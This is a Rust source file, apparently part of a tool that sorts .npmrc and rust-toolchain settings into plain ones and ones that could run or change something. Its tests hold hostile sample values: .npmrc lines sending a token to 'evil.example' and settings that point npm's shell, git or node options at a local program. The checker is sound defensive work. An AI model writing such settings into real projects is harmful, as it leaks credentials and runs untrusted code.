//! Settings files that can be plain: what they may hold without a program that obeys them running or changing
//! something. Local reading asks this for the files that `obeys` names; what is held of them is the keys alone.

/// Settings of npm and pnpm that only say what is kept, checked or shown.
const NPM: [&str; 34] = [
    "audit",
    "auto-install-peers",
    "color",
    "dedupe-peer-dependents",
    "engine-strict",
    "force",
    "fund",
    "hoist",
    "hoist-pattern[]",
    "ignore-scripts",
    "ignore-workspace-root-check",
    "install-strategy",
    "legacy-peer-deps",
    "link-workspace-packages",
    "lockfile",
    "loglevel",
    "message",
    "node-linker",
    "offline",
    "package-lock",
    "prefer-offline",
    "prefer-workspace-packages",
    "progress",
    "public-hoist-pattern[]",
    "resolution-mode",
    "save",
    "save-exact",
    "save-prefix",
    "save-workspace-protocol",
    "shamefully-hoist",
    "side-effects-cache",
    "strict-peer-dependencies",
    "unicode",
    "update-notifier",
];

/// The settings of a file that may make a program run or change something, by the file's name; none where such files
/// aren't read. What can't be read for sure counts as one.
#[must_use]
pub fn foreign_settings(file: &str, text: &str) -> Option<Vec<String>> {
    match file {
        ".npmrc" => Some(npm(text)),
        // Once it was a name alone.
        "rust-toolchain" if !text.contains('=') => Some(named(text.trim())),
        "rust-toolchain.toml" | "rust-toolchain" => Some(toolchain(text)),
        _ => None,
    }
}

/// Whether local reading should look into a file of that name.
pub(super) fn can_be_plain(file: &str) -> bool {
    foreign_settings(file, "").is_some()
}

fn npm(text: &str) -> Vec<String> {
    let lines = text.lines().map(str::trim).filter(|line| !line.is_empty() && !line.starts_with(['#', ';']));
    let foreign = lines.filter_map(|line| {
        let (key, value) = line.split_once('=').unwrap_or((line, ""));
        let (key, value) = (key.trim(), value.trim());
        let plain = value.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.*@^~\"/ ".contains(&byte));
        (!(NPM.contains(&key) && plain)).then(|| key.to_owned())
    });
    foreign.collect()
}

fn toolchain(text: &str) -> Vec<String> {
    let Ok(file) = text.parse::<toml::Table>() else { return vec!["an unreadable line".to_owned()] };
    let mut foreign: Vec<String> = file.keys().filter(|key| *key != "toolchain").cloned().collect();
    match file.get("toolchain") {
        Some(toml::Value::Table(toolchain)) => {
            for (key, value) in toolchain {
                match (key.as_str(), value) {
                    ("channel", toml::Value::String(name)) => foreign.extend(named(name)),
                    ("components" | "targets", toml::Value::Array(_)) | ("profile", toml::Value::String(_)) => {}
                    _ => foreign.push(format!("toolchain.{key}")),
                }
            }
        }
        Some(_) => foreign.push("toolchain".to_owned()),
        None => {}
    }
    foreign
}

/// The name of a toolchain is one, not a folder.
fn named(name: &str) -> Vec<String> {
    let plain = name.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_'));
    if plain && name.starts_with(|c: char| c.is_ascii_alphanumeric()) { Vec::new() } else { vec!["channel".to_owned()] }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_settings_are_told_from_those_that_run_something() {
        let none = Some(Vec::<String>::new());
        for (file, text) in [
            (".npmrc", "# ours\nsave-exact=true\nengine-strict = true\n\nsave-prefix=~\n"),
            ("rust-toolchain", "1.80.1\n"),
            ("rust-toolchain", "[toolchain]\nchannel = \"stable\"\n"),
            (
                "rust-toolchain.toml",
                "[toolchain]\nchannel = \"nightly-2026-01-01\"\ncomponents = [\"clippy\"]\nprofile = \"minimal\"\n",
            ),
        ] {
            assert_eq!(foreign_settings(file, text), none, "{text}");
        }
        for (file, text, key) in [
            (".npmrc", "git=./x", "git"),
            (".npmrc", "script-shell=./x", "script-shell"),
            (".npmrc", "registry=https://evil.example/${TOKEN}", "registry"),
            (".npmrc", "//evil.example/:_authToken=${TOKEN}", "//evil.example/:_authToken"),
            (".npmrc", "save-prefix=${TOKEN}", "save-prefix"),
            (".npmrc", "node-options=--require ./x", "node-options"),
            ("rust-toolchain.toml", "[toolchain]\npath = \"./x\"", "toolchain.path"),
            ("rust-toolchain.toml", "[toolchain]\nchannel = \"./x\"", "channel"),
            ("rust-toolchain.toml", "[toolchain", "an unreadable line"),
            ("rust-toolchain", "../x", "channel"),
            ("rust-toolchain", "a\nb", "channel"),
        ] {
            assert_eq!(foreign_settings(file, text).unwrap(), [key], "{text}");
        }
        assert_eq!(foreign_settings("Makefile", ""), None);
    }
}
